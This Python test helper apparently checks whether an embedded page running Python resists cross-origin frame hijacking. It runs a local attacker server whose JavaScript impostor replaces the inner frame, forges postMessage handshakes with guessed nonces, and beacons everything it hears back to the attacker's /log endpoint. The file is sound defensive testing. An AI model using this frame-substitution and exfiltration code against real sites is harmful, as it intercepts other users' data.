"""A page of another origin that embeds ours, or opens it, and puts its own document where Python runs."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

# In the frame's place: tells all that it hears and is handed, and says to be ours.
IMPOSTOR = """<!doctype html><script>
const tell = (what) => navigator.sendBeacon('ORIGIN/log', what)
const hear = (name) => ({ data, ports }) => {
  tell(`${name} heard ${JSON.stringify(data)} with ${ports.length} ports`)
  for (const port of ports) port.onmessage = hear('the port')
}
addEventListener('message', hear('the window'))
tell('in the frame')
const digits = () => Array.from(crypto.getRandomValues(new Uint8Array(32)), (byte) => byte.toString(16).padStart(2, '0')).join('')
for (const nonce of ['', 'undefined', null, 0, [], {}, ...Array.from({ length: 100 }, digits)]) {
  for (const message of [{ kind: 'hello', nonce }, { kind: 'pong' }, nonce, 'hello']) {
    const { port1, port2 } = new MessageChannel()
    port1.onmessage = hear('a forged port')
    parent.postMessage(message, '*', [port2])
  }
}
</script>"""

# Around ours. `strike` navigates the inner frame; when, the address says.
EMBEDDER = """<!doctype html><iframe src="PAGE" style="width:1400px;height:850px"></iframe><script>
const { when, where } = Object.fromEntries(new URLSearchParams(location.search))
const places = { own: 'ORIGIN/impostor', blank: 'about:blank', data: 'data:text/html,' + encodeURIComponent(IMPOSTOR) }
globalThis.strikes = 0
globalThis.peace = false
const most = 100
let ours = () => frames[0]
if (when === 'opener') {
  document.querySelector('iframe').remove()
  addEventListener('click', () => { const opened = open('PAGE'); ours = () => opened; loop() })
}
function strike() {
  if (peace || !ours()?.frames.length) return false
  try {
    ours().frames[0].location = places[where]
  } catch (error) {
    return false // the browser does not allow it
  }
  strikes++
  return true
}
function forge() {
  const { port1, port2 } = new MessageChannel()
  port1.onmessage = ({ data }) => navigator.sendBeacon('ORIGIN/log', `the embedder heard ${JSON.stringify(data)}`)
  ours()?.postMessage({ kind: 'hello', nonce: String(strikes) }, '*', [port2])
}
function loop() {
  strike()
  forge()
  if (!peace && strikes < most) setTimeout(loop)
}
if (when === 'once') { const timer = setInterval(() => strike() && clearInterval(timer)) }
if (when === 'loop') loop()
if (when === 'frames') { const frame = () => { strike(); if (!peace && strikes < most) requestAnimationFrame(frame) }; frame() }
</script>"""


class Attacker(ThreadingHTTPServer):
    """`log` holds what its documents have told."""

    daemon_threads = True

    def __init__(self, page: str) -> None:
        self.page = page
        self.log: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)

    @property
    def origin(self) -> str:
        return f"http://localhost:{self.server_address[1]}"

    def address(self, when: str, where: str) -> str:
        return f"{self.origin}/embedder?when={when}&where={where}"

    def gains(self) -> list[str]:
        """What it should never have: anything that was said to it."""
        return [line for line in self.log if "heard" in line]


class _Handler(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        path = urlsplit(self.path)
        impostor = IMPOSTOR.replace("ORIGIN", self.server.origin)
        text = impostor if path.path == "/impostor" else self._embedder(impostor, path.query)
        content = text.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def _embedder(self, impostor: str, query: str) -> str:
        assert parse_qs(query) or "favicon" in self.path
        literal = repr(impostor).replace("</", "<\\/")
        page = EMBEDDER.replace("PAGE", self.server.page).replace("ORIGIN", self.server.origin)
        return page.replace("IMPOSTOR", literal)

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length", "0"))
        self.server.log.append(self.rfile.read(length).decode(errors="replace"))
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        """Quiet: `log` tells."""


@contextmanager
def attacking(page: str) -> Iterator[Attacker]:
    server = Attacker(page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
